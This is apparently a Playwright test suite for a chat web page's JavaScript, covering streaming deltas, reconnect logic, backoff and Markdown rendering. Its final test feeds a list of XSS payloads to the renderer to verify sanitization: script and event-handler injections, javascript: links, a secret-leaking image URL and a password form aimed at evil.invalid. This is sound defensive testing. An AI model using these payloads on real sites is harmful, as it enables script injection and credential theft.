"""The page's JavaScript modules by themselves, in Chromium: offsets, history, refusals, Markdown that grows."""

from __future__ import annotations

import random
from typing import Any

import pytest
from playwright.async_api import Page

from chat_server.engine.simulated import answer_for
from tests.e2e.modules import ASKED, created, delta, end, message, run, running_answer, told

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]


async def test_offsets_count_code_points(page: Page) -> None:
    """Random deltas, repeated and cut at random places of a text full of emoji, give what Python's slices give."""
    seed = random.randrange(2**32)
    choose = random.Random(seed)
    text, deltas = "", []
    for _ in range(300):
        offset = choose.randint(max(0, len(text) - 6), len(text))
        delta = "".join(choose.choices("ab 👩🏽‍💻é数🇨🇭", k=choose.randint(0, 5)))
        text = text[:offset] + delta
        deltas.append((offset, delta))
    code = """
      const item = { text: '', points: 0 };
      const applied = x.every(([offset, delta]) => m.applyDelta(item, offset, delta));
      return [applied, item.text, item.points, m.countPoints(item.text)];
    """
    seen = await run(page, "conversation.js", code, deltas)
    assert seen == [True, text, len(text), len(text)], f"seed {seed}"


async def test_a_gap_changes_nothing_and_is_told(page: Page) -> None:
    """Text that does not join up is not shown: the caller has to connect anew."""
    code = """
      const item = { text: '👍', points: 1 };
      return [m.applyDelta(item, 2, 'x'), item.text, m.applyDelta(item, 1, 'x'), item.text];
    """
    assert await run(page, "conversation.js", code) == [False, "👍", True, "👍x"]


async def conversation(page: Page, events: list[dict[str, Any]]) -> Any:
    """The items' ids and texts, the running answer's id, and whether there was no gap, after these events."""
    code = """
      const conversation = new m.Conversation();
      const whole = x.map((event) => conversation.apply(event)).every(Boolean);
      return { items: conversation.items.map((item) => [item.id, item.text]), answer: conversation.answer?.id, whole };
    """
    return await run(page, "conversation.js", code, events)


async def test_a_second_connection_replaces_what_the_first_told(page: Page) -> None:
    """After a reconnect nothing is there twice, and what was deleted meanwhile is gone."""
    first = [created(2), *told(message("a", "one"), None), *told(message("b", "two"), "a")]
    live = told(message("c", "three"), "b")
    second = [created(2), *told(message("a", "one"), None), *told(message("c", "three"), "a")]
    seen = await conversation(page, [*first, *live, *second])
    assert seen == {"items": [["a", "one"], ["c", "three"]], "answer": None, "whole": True}


async def test_a_running_answer_is_replayed_over_what_was_held(page: Page) -> None:
    """The text so far comes as one delta from 0, then the rest; the page ends with exactly the text."""
    begun = message("b", "", "assistant", status="in_progress")
    ids = {"response_id": "r", "item_id": "b"}
    response = {"id": "r", "status": "in_progress"}

    def start(offset: int, delta: str) -> list[dict[str, Any]]:
        return [
            {"type": "response.created", "response": response, "in_reply_to": "a"},
            {"type": "response.output_item.added", "response_id": "r", "item": begun},
            {"type": "conversation.item.added", "item": begun, "previous_item_id": "a"},
            {"type": "response.output_text.delta", **ids, "offset": offset, "delta": delta, "epoch": "e"},
        ]

    first = [created(1), *told(message("a", "hi"), None), *start(0, "Hel")]
    active = {"id": "r", "item_id": "b", "state": "streaming", "epoch": "e", "offset": 0}
    second = [created(1, active), *told(message("a", "hi"), None), *start(0, "Hello 👋")]
    running = await conversation(page, [*first, *second])
    assert running == {"items": [["a", "hi"], ["b", "Hello 👋"]], "answer": "r", "whole": True}
    rest = {"type": "response.output_text.delta", **ids, "offset": 7, "delta": "!", "epoch": "e"}
    done = {"type": "response.done", "response": {"id": "r", "status": "completed", "output": [message("b", "")]}}
    ended = await conversation(page, [*first, *second, rest, done])
    assert ended == {"items": [["a", "hi"], ["b", "Hello 👋!"]], "answer": None, "whole": True}


async def test_an_answer_that_ended_while_away_is_not_waited_for(page: Page) -> None:
    """The next connection says that nothing runs: the page must not show an answer that never ends."""
    running = [created(0), {"type": "response.created", "response": {"id": "r", "status": "in_progress"}}]
    assert (await conversation(page, running))["answer"] == "r"
    assert (await conversation(page, [*running, created(0)]))["answer"] is None


@pytest.mark.parametrize(
    ("second", "items", "answer"),
    [
        pytest.param(
            [created(2, {"id": "r", "item_id": "ir", "epoch": "e", "offset": 4}), *ASKED, delta("r", 4, "lo")],
            [["a", "hi"], ["ir", "Hel👋lo"]],
            "r",
            id="it goes on",
        ),
        pytest.param(
            [created(2, {"id": "r", "item_id": "ir", "epoch": "f", "offset": 0}), *ASKED, delta("r", 0, "New", "f")],
            [["a", "hi"], ["ir", "New"]],
            "r",
            id="it is told from 0",
        ),
        pytest.param(
            [created(2, {"id": "r", "item_id": "ir", "epoch": "f", "offset": 2}), *ASKED, delta("r", 2, "", "f")],
            [["a", "hi"], ["ir", "He"]],
            "r",
            id="text is taken back",
        ),
        pytest.param(
            [created(2), *ASKED, delta("r", 4, "lo"), *end("r", "Hel👋lo", "a")],
            [["a", "hi"], ["ir", "Hel👋lo"]],
            None,
            id="it ended",
        ),
        pytest.param(
            [created(3), *ASKED, *end("r", "Hel👋", "a"), *told(message("b", "more"), "ir")],
            [["a", "hi"], ["ir", "Hel👋"], ["b", "more"]],
            None,
            id="others followed",
        ),
        pytest.param(
            [created(1), *end("r", None, "a", "cancelled"), *ASKED], [["a", "hi"]], None, id="nothing is left"
        ),
        pytest.param([created(1), *ASKED], [["a", "hi"]], None, id="nothing is known of it"),
    ],
)
async def test_a_resumed_answer_is_whole(
    page: Page, second: list[dict[str, Any]], items: list[list[str]], answer: str | None
) -> None:
    """Whatever happened to it while the page was away: no code point is lost or doubled, and it is in its place."""
    first = [created(1), *ASKED, *running_answer("r", "a", "a", "Hel👋")]
    assert await conversation(page, [*first, *second]) == {"items": items, "answer": answer, "whole": True}


async def test_the_resume_point_counts_code_points(page: Page) -> None:
    """Response, epoch and length of the answer under way, also if it was cut twice; none when its end was told."""
    code = """
      const conversation = new m.Conversation();
      return x.map((events) => {
        for (const event of events) conversation.apply(event);
        return conversation.resumePoint;
      });
    """
    steps = [[created(1), *ASKED], running_answer("r", "a", "a", "👋👋"), [created(1)], end("r", None, "a", "failed")]
    held = {"responseId": "r", "epoch": "e", "offset": 2}
    assert await run(page, "conversation.js", code, steps) == [None, held, held, None]


async def test_an_answer_that_waits_behind_another_is_found_again(page: Page) -> None:
    """Its beginning is not told again to who holds it: its first text says that it runs."""
    active = {"id": "q", "item_id": "iq", "epoch": "e", "offset": 0}
    first = [created(1), *ASKED, *running_answer("q", "a", "a", "One"), *running_answer("r", "iq", "a", "")]
    second = [created(3, active), *ASKED, *running_answer("q", "a", "a", "One"), *end("q", "One", "a")]
    assert (await conversation(page, [*first, *second]))["answer"] is None
    seen = await conversation(page, [*first, *second, delta("r", 0, "Two")])
    assert seen == {"items": [["a", "hi"], ["iq", "One"], ["ir", "Two"]], "answer": "r", "whole": True}


async def test_why_an_answer_left_nothing_is_known_after_a_cut(page: Page) -> None:
    """It failed while the page was away: the reason is told with its end."""
    code = """
      const conversation = new m.Conversation();
      for (const event of x) conversation.apply(event);
      return conversation.outcomes.get('a');
    """
    error = {"code": "overloaded", "message": "No engine is free."}
    failed = end("r", None, "a", "failed", type="failed", error=error)
    events = [created(1), *ASKED, *running_answer("r", "a", "a", ""), created(1), *failed, *ASKED]
    outcome = {"status": "failed", "reason": None, **error}
    assert await run(page, "conversation.js", code, events) == outcome


async def test_a_stopped_answer_stays_as_it_was_seen(page: Page) -> None:
    """Text that was on its way is not shown; the end says what is kept."""
    code = """
      const conversation = new m.Conversation();
      for (const event of x.first) conversation.apply(event);
      conversation.hold('r', 4);
      for (const event of x.second) conversation.apply(event);
      const before = conversation.item('ir').text;
      for (const event of x.end) conversation.apply(event);
      return [before, conversation.item('ir').text];
    """
    first = [created(1), *ASKED, *running_answer("r", "a", "a", "Hel👋")]
    parts = {"first": first, "second": [delta("r", 4, "lo"), delta("r", 6, "!")], "end": end("r", "Hel", "a")}
    assert await run(page, "conversation.js", code, parts) == ["Hel👋", "Hel"]


async def test_items_stand_in_the_order_of_their_places(page: Page) -> None:
    """An item goes after the one that it names, wherever that is."""
    events = [created(0), *told(message("a", "1"), None), *told(message("c", "3"), "a"), *told(message("b", "2"), "a")]
    assert (await conversation(page, events))["items"] == [["a", "1"], ["b", "2"], ["c", "3"]]


async def test_delays_grow_to_a_bound_and_differ(page: Page) -> None:
    """Clients come back soon at first, then seldom, and not all at the same moment."""
    code = "return [0, 1, 2, 30].map((n) => [m.backoff(n, () => 0), m.backoff(n, () => 1)]);"
    assert await run(page, "connection.js", code) == [[200, 400], [400, 800], [800, 1600], [10_000, 20_000]]


async def test_refusals_are_told_apart(page: Page) -> None:
    """What waiting helps is waited for, the rest is for the person; a proxy that blocks is named after some tries."""
    code = "return x.map(([status, after, attempt]) => m.readVerdict(status, undefined, after, attempt));"
    cases = [
        [401, None, 0],
        [404, None, 0],
        [429, "2", 0],
        [503, None, 0],
        [502, None, 0],
        [426, None, 0],
        [426, None, 5],
    ]
    verdicts = await run(page, "connection.js", code, cases)
    phases = [verdict["phase"] for verdict in verdicts]
    assert phases == ["refused", "refused", *["waiting"] * 5]
    assert verdicts[2]["retryAfterMs"] == 2000
    assert [verdict["code"] for verdict in verdicts[-2:]] == ["interrupted", "no_upgrade"]


async def test_a_key_must_fit_into_a_subprotocol(page: Page) -> None:
    """Keys that the browser would refuse with an exception are found before."""
    code = "return x.map(m.isToken);"
    keys = ["sk-abc_123.~+", "", "two words", "comma,", "schlüssel"]
    assert await run(page, "connection.js", code, keys) == [True, False, False, False, False]


GROW = """
  const pieces = [...x];
  const grown = document.createElement('div');
  const view = new m.StreamingMarkdown(grown);
  let text = '', kept = 0;
  while (pieces.length) {
    text += pieces.shift();
    const first = grown.firstChild;
    view.show(text);
    if (first && first === grown.firstChild) kept += 1;
  }
  view.show(text, true);
  const whole = document.createElement('div');
  new m.StreamingMarkdown(whole).show(text, true);
  return { grown: grown.innerHTML, whole: whole.innerHTML, kept };
"""


@pytest.mark.parametrize(
    "text",
    [
        answer_for([{"role": "user", "content": "Everything, in 250 words"}]),
        "1. one\n2. two\n\n   more of two\n\n3. three\n\nEnd",
        "text\n#hashtag\n# heading\ntext\n***bold***\n\n***\n- a\n  - b\n\n  c\n\nd",
        "See [this] and [that].\n\nMore.\n\n[this]: https://example.com/1\n\n[that]: https://example.com/2\n\nEnd.",
        "```\nno end\n\n# not a heading\n",
        "a\r\nb\r\n\r\n| x | y |\r\n|---|---|\r\n| 1 | 2 |\r\n",
    ],
    ids=["everything", "list", "look-alikes", "references", "open fence", "carriage returns"],
)
async def test_markdown_that_grew_equals_markdown_at_once(page: Page, text: str) -> None:
    """Shown character by character, an answer ends as the same nodes as if it had come whole."""
    shown = await run(page, "stream.js", GROW, text)
    assert shown["grown"] == shown["whole"]


async def test_finished_blocks_are_left_alone(page: Page) -> None:
    """Only the last block is rendered again: the first one's node is the same from its end on."""
    shown = await run(page, "stream.js", GROW, "First *paragraph*.\n\n" + "And then more. " * 100)
    assert shown["kept"] > 1400


async def test_a_cut_takes_text_back(page: Page) -> None:
    """Text that gets shorter or other is shown as it is now."""
    code = """
      const root = document.createElement('div');
      const view = new m.StreamingMarkdown(root);
      for (const text of x) view.show(text);
      return root.textContent.trim();
    """
    texts = ["One.\n\nTwo.\n\nThree.\n\nFour", "One.\n\nTw", "One.\n\nTwice.\n\nEnd"]
    assert (await run(page, "stream.js", code, texts)).split() == ["One.", "Twice.", "End"]


EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "![x](https://evil.invalid/leak.png?secret)",
    '![x](" onerror="alert(1))',
    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    '<https://example.com/" onclick="alert(1)>',
    "```<img src=x onerror=alert(1)>\n```",
    '```" onclick="alert(1)\ncode\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "<form action=https://evil.invalid><input name=password><button>Send</button></form>",
    "<base href=https://evil.invalid/><link rel=stylesheet href=x.css><meta http-equiv=refresh content=0>",
    "<p style='position:fixed;inset:0' id=input class=composer>over the page</p>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
]


@pytest.mark.parametrize("text", EVIL)
async def test_markdown_can_do_no_harm(page: Page, text: str) -> None:
    """No script, no handler, no picture, no form, no style; links lead to http, https and mail only."""
    code = """
      const root = document.createElement('div');
      new m.StreamingMarkdown(root).show(x, true);
      const all = [...root.querySelectorAll('*')];
      return {
        tags: all.map((element) => element.localName),
        attributes: all.flatMap((element) => element.getAttributeNames()),
        links: [...root.querySelectorAll('[href]')].map((link) => link.protocol),
      };
    """
    shown = await run(page, "stream.js", code, text)
    text_tags = {"a", "blockquote", "br", "code", "del", "em", "li", "ol", "p", "pre", "strong", "ul"}
    table_tags = {"table", "tbody", "td", "th", "thead", "tr"}
    own_tags = {"button", "div", "span"}  # the bar above code
    assert set(shown["tags"]) <= text_tags | table_tags | own_tags
    safe = {"align", "aria-label", "class", "dir", "href", "rel", "tabindex", "target", "type"}
    assert set(shown["attributes"]) <= safe
    assert set(shown["links"]) <= {"http:", "https:", "mailto:"}
